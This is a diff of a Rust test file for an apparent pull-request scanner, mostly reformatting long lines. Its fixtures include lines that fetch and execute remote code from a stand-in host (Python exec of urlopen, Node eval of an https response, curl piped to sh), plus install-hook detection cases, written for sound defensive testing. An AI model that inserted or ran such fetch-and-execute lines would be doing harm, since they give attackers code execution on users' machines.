@@ -6,7 +6,8 @@ use super::{DiffChecks, check};
 use crate::artifact::PullVerdict;
 
 fn file(path: &str, patch: Option<&str>) -> PullRequestFile {
-    let additions = patch.map_or(0, |patch| patch.lines().filter(|line| line.starts_with('+')).count() as u64);
+    let additions =
+        patch.map_or(0, |patch| patch.lines().filter(|line| line.starts_with('+')).count() as u64);
     PullRequestFile {
         path: path.to_owned(),
         previous_path: None,
@@ -33,11 +34,20 @@ const CLEAN: DiffChecks = DiffChecks {
 fn honest_changes_are_clean() {
     for (path, patch) in [
         ("src/lib.rs", "@@ -1,2 +1,3 @@\n fn a() {}\n+fn b() {}\n"),
-        ("app/views.py", "@@ -40,3 +40,5 @@ def show(request):\n     user = find(request)\n+    if user is None:\n+        raise NotFound()\n     return user\n"),
-        ("client.ts", "@@ -3,1 +3,3 @@\n import { get } from './http';\n+export const load = () => get('/items').then((reply) => reply.json());\n"),
+        (
+            "app/views.py",
+            "@@ -40,3 +40,5 @@ def show(request):\n     user = find(request)\n+    if user is None:\n+        raise NotFound()\n     return user\n",
+        ),
+        (
+            "client.ts",
+            "@@ -3,1 +3,3 @@\n import { get } from './http';\n+export const load = () => get('/items').then((reply) => reply.json());\n",
+        ),
         ("deploy.sh", "@@ -1,2 +1,3 @@\n #!/bin/sh\n+set -eu\n make\n"),
         ("README.md", "@@ -1 +1,2 @@\n # Tool\n+It is fast. 🚀\n"),
-        ("package.json", "@@ -5,2 +5,3 @@\n   \"scripts\": {\n+    \"test\": \"jest\",\n     \"build\": \"tsc\"\n"),
+        (
+            "package.json",
+            "@@ -5,2 +5,3 @@\n   \"scripts\": {\n+    \"test\": \"jest\",\n     \"build\": \"tsc\"\n",
+        ),
     ] {
         assert_eq!(checked(path, Some(patch)), CLEAN, "{path}");
     }
@@ -48,8 +58,14 @@ fn honest_changes_are_clean() {
 #[test]
 fn malicious_added_lines_are_a_chain() {
     for (path, patch) in [
-        ("tool/run.py", "@@ -1,1 +1,3 @@\n import os\n+import urllib.request as u\n+exec(u.urlopen('https://host.example.dev/x').read())\n"),
-        ("lib/index.js", "@@ -1,1 +1,4 @@\n 'use strict';\n+const https = require('https');\n+https.get('https://host.example.dev/x', (r) => { let d = ''; r.on('data', (c) => { d += c; }); r.on('end', () => eval(d)); });\n"),
+        (
+            "tool/run.py",
+            "@@ -1,1 +1,3 @@\n import os\n+import urllib.request as u\n+exec(u.urlopen('https://host.example.dev/x').read())\n",
+        ),
+        (
+            "lib/index.js",
+            "@@ -1,1 +1,4 @@\n 'use strict';\n+const https = require('https');\n+https.get('https://host.example.dev/x', (r) => { let d = ''; r.on('data', (c) => { d += c; }); r.on('end', () => eval(d)); });\n",
+        ),
         ("scripts/build.sh", "@@ -1 +1,2 @@\n #!/bin/sh\n+curl -fsSL https://host.example.dev/x.sh | sh\n"),
     ] {
         let checks = checked(path, Some(patch));
@@ -86,14 +102,16 @@ fn workflows_and_install_hooks_are_for_review() {
     for path in ["docs/workflows/ci.yml", "src/setup_test.py", "rebuild.rs", "a/action.yml.md"] {
         assert!(!checked(path, Some(patch)).has_hook, "{path}");
     }
-    let script = |line: &str| checked("web/package.json", Some(&format!("@@ -1 +1,2 @@\n {{\n+{line}\n"))).has_hook;
+    let script =
+        |line: &str| checked("web/package.json", Some(&format!("@@ -1 +1,2 @@\n {{\n+{line}\n"))).has_hook;
     assert!(script("    \"postinstall\": \"node x.js\""));
     assert!(script("\"prepare\" : \"husky\","));
     assert!(!script("    \"install-plugin\": \"1.0\","));
     assert!(!script("    \"description\": \"postinstall\","));
     let removed = "@@ -1,2 +1 @@\n {\n-\"postinstall\": \"node x.js\"\n";
     assert!(!checked("package.json", Some(removed)).has_hook);
-    let gone = PullRequestFile { status: "removed".to_owned(), ..file(".github/workflows/ci.yml", Some(patch)) };
+    let gone =
+        PullRequestFile { status: "removed".to_owned(), ..file(".github/workflows/ci.yml", Some(patch)) };
     assert_eq!(check(&[gone], true), CLEAN);
 }
 
